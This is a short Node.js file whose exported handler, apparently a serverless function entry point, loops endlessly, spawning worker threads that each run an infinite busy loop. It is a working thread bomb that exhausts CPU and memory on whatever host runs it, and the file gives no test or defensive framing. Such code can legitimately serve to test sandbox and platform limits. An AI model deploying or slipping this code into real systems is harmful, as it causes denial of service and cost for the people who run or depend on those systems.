const { Worker } = require("worker_threads");

exports.handler = async () => {
  for (;;) {
    new Worker("while(true){}", { eval: true });
  }
};
